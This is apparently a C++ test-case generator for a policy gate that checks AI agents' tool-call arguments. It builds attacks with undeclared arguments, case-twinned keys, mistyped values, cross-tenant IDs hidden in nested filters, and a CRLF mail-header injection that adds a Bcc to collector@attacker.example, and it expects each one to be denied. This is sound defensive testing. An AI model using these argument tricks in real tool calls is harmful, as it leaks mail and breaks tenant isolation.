// Arguments that nobody declared, that look like others, or that are no call at all.
#include <fmt/format.h>

#include <cctype>
#include <string>
#include <vector>

#include "cases/attack_ground.h"

namespace yett {
namespace {

void add_undeclared(AttackGround& ground, const CallableTool& callable) {
  Case extra = ground.attack(fmt::format("{} with an argument that nobody declared", callable.name), callable);
  extra.approver = ScriptedAnswer::Approve;
  extra.calls.back().arguments.set("also_forward_via", "attacker");
  AttackGround::expect_denied(extra, RuleId::ArgumentsSchema);
  ground.add(std::move(extra));
}

/// A declared argument once more, spelt otherwise: the gate would judge one and the tool use the other.
void add_twin(AttackGround& ground, const CallableTool& callable) {
  const Json::Object& arguments = *callable.arguments.as_object();
  if (arguments.empty()) return;
  std::string twin = arguments.front().key;
  twin.front() = static_cast<char>(std::toupper(static_cast<unsigned char>(twin.front())));
  if (callable.arguments.find(twin) != nullptr) return;
  Case made = ground.attack(fmt::format("{} with {} spelt twice", callable.name, arguments.front().key), callable);
  made.approver = ScriptedAnswer::Approve;
  made.calls.back().arguments.set(twin, arguments.front().value);
  AttackGround::expect_denied(made, RuleId::ArgumentsMalformed);
  ground.add(std::move(made));
}

void add_unreadable(AttackGround& ground, const CallableTool& callable) {
  Case made = ground.attack("what is no call", callable);
  made.calls.back().readability = Readability::Unreadable;
  AttackGround::expect_denied(made, RuleId::ArgumentsMalformed);
  ground.add(std::move(made));
}

/// The schema of a tool says more than which names there are: a value of another type.
void add_mistyped(AttackGround& ground, const CallableTool& callable) {
  if (!callable.tool->schema) return;
  for (const Json::Member& member : *callable.arguments.as_object()) {
    const BoundArgument* bound = callable.tool->find_argument(member.key);
    if (bound != nullptr && bound->role != ArgumentRole::Content && bound->role != ArgumentRole::Unbound) continue;
    Json arguments = callable.arguments;
    arguments.set(member.key, Json::object({{"nested", "text"}}));
    if (!callable.tool->schema->check(arguments)) continue;
    Case made = ground.attack(fmt::format("{} with {} of another type", callable.name, member.key), callable);
    made.approver = ScriptedAnswer::Approve;
    made.calls.back().arguments = std::move(arguments);
    AttackGround::expect_denied(made, RuleId::ArgumentsSchema);
    ground.add(std::move(made));
    return;
  }
}

void add_tenant(AttackGround& ground, const CallableTool& callable) {
  for (const BoundArgument& argument : callable.tool->arguments) {
    if (argument.role != ArgumentRole::Tenant) continue;
    Case made = ground.attack(fmt::format("{} for another tenant, by {}", callable.name, argument.name), callable);
    made.approver = ScriptedAnswer::Approve;
    put_at(made.calls.back().arguments, argument.place.steps(), Json(ground.tenants().other));
    AttackGround::expect_denied(made, RuleId::TenancyInArguments);
    ground.add(std::move(made));
  }
}

/// A tenant is found however deep it is hidden.
void add_hidden_tenant(AttackGround& ground, const CallableTool& callable) {
  if (callable.tool->schema) return;
  for (const BoundArgument& argument : callable.tool->arguments) {
    if (argument.role != ArgumentRole::Content || !argument.place.is_key()) continue;
    Case made =
        ground.attack(fmt::format("{} for another tenant, hidden in {}", callable.name, argument.name), callable);
    made.approver = ScriptedAnswer::Approve;
    put_at(made.calls.back().arguments, argument.place.steps(),
           Json::object({{"filter", Json::object({{"tenant_id", ground.tenants().other}})}}));
    AttackGround::expect_denied(made, RuleId::TenancyInArguments);
    const Decision ruling =
        first_ruling(ground.policy(), callable.session, *callable.tool, made.calls.back().arguments, ground.now());
    if (ruling.rule() != RuleId::TenancyInArguments) continue;
    ground.add(std::move(made));
    return;
  }
}

/// A header of mail that a plain text would forge.
void add_header(AttackGround& ground, const CallableTool& callable) {
  if (!callable.tool->has_role(ArgumentRole::Email)) return;
  for (const std::string_view name : {"subject", "title", "reply_to"}) {
    if (callable.arguments.find(name) == nullptr) continue;
    Case made = ground.attack(fmt::format("{} with a second header in {}", callable.name, name), callable);
    made.approver = ScriptedAnswer::Approve;
    made.calls.back().arguments.set(name, "hello\r\nBcc: collector@attacker.example");
    AttackGround::expect_denied(made, RuleId::DestinationMalformed);
    ground.add(std::move(made));
    return;
  }
}

}  // namespace

void add_attacks_on_arguments(AttackGround& ground) {
  if (const CallableTool* free = ground.free_tool()) add_unreadable(ground, *free);
  for (const CallableTool& callable : ground.tools()) {
    add_undeclared(ground, callable);
    add_twin(ground, callable);
    add_mistyped(ground, callable);
    add_tenant(ground, callable);
    add_hidden_tenant(ground, callable);
    add_header(ground, callable);
  }
}

}  // namespace yett
